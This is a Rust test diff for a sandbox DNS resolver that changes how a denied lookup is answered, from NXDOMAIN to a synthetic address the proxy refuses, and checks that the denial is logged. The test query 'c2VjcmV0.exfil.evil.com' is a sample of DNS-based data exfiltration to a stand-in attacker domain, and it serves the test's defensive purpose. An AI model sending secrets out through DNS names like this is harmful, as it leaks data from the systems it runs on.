@@ -354,14 +354,20 @@ async fn box_dns_goes_to_boxds_resolver_whatever_the_server() {
     assert_eq!(answer_ips(&r), v6);
     drop(tcp);
 
-    // A denied name: NXDOMAIN, and its labels never leave the host.
+    // A denied name: a synthetic address (the proxy refuses the
+    // connection to it), and its labels never leave the host.
     let (r, _) = ask_udp(
         &udp4,
         google4,
         &query(10, "c2VjcmV0.exfil.evil.com.", RecordType::A),
     )
     .expect("answer for a denied name");
-    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
+    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
+    let denied_ips = answer_ips(&r);
+    assert!(
+        denied_ips.len() == 1 && boxd_net::synth::is_synthetic(denied_ips[0]),
+        "{denied_ips:?}"
+    );
 
     // Upstream (the stand-in on the host's 127.0.0.1) saw exactly the
     // allowed names, through the resolver's own lookups.
@@ -377,7 +383,8 @@ async fn box_dns_goes_to_boxds_resolver_whatever_the_server() {
     let denied: Vec<_> = evs.iter().filter(|e| e.decision == "deny").collect();
     assert_eq!(denied.len(), 1);
     assert_eq!(denied[0].name, "c2vjcmv0.exfil.evil.com");
-    assert_eq!(denied[0].rcode, "NXDOMAIN");
+    assert_eq!(denied[0].rcode, "NOERROR");
+    assert_eq!(denied[0].answers, denied_ips);
 
     st.teardown().await;
 }
